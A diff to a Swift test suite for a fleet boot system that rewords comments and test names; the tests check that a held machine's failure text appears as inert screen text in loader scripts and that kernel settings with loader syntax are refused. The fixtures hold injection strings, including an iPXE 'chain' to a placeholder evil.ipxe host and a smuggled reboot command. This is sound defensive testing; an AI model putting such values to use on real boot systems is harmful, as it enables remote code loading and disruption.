@@ -3,9 +3,9 @@ import Wire
 
 @testable import Fleet
 
-/// What machines say of themselves, in scripts that other machines obey.
+/// Texts from machines in scripts that other machines execute.
 @Suite struct LoaderScriptTests {
-    /// Each byte that is no letter, what loaders obey, what turns text round, and more than fits.
+    /// Each byte that is not a letter, loader syntax, text-direction marks, and too much text.
     private static let hostile: [String] =
         (0..<0x30).map { "a\(Character(Unicode.Scalar(UInt8($0))))b" } + [
             "x && chain http://10.77.0.66/evil.ipxe || y", "x; reboot", "x || goto failed", "${net0/ip}",
@@ -17,7 +17,7 @@ import Wire
             String(repeating: "&& ", count: 22_000),
         ]
 
-    /// What a held machine shows: the text of the report that it failed with.
+    /// The screen of a held machine: the text of its failure report.
     private func plan(showing text: String) throws -> BootPlan {
         let trouble = BootTrouble(
             version: Sample.digest("a"), failedBoots: 3, lastBootAt: 1, detail: text)
@@ -28,8 +28,9 @@ import Wire
             for: BootIdentity(macAddress: Sample.mac), in: snapshot, under: Sample.policy())
     }
 
-    @Test(arguments: hostile) func `a machine's text is text on a screen, whatever it is`(text: String) throws
-    {
+    @Test(arguments: hostile) func `a machine's text is only text on a screen, whatever it contains`(
+        text: String
+    ) throws {
         let (harmless, held) = (try plan(showing: "a"), try plan(showing: text))
         guard case .nothing(let because) = held.target else {
             Issue.record("the machine is not held")
@@ -55,7 +56,7 @@ import Wire
         }
     }
 
-    @Test func `words of a kernel that a loader would obey are refused as a setting, and never passed on`() {
+    @Test func `kernel words with loader syntax are refused as a setting, and never passed on`() {
         for word in [
             "a;b", "a&&b", "${x}", "a|b", "`a`", "a\"b", "a'b", "a#b", "<a", "a>b", "a b", "a\\b", "", "é",
         ] {
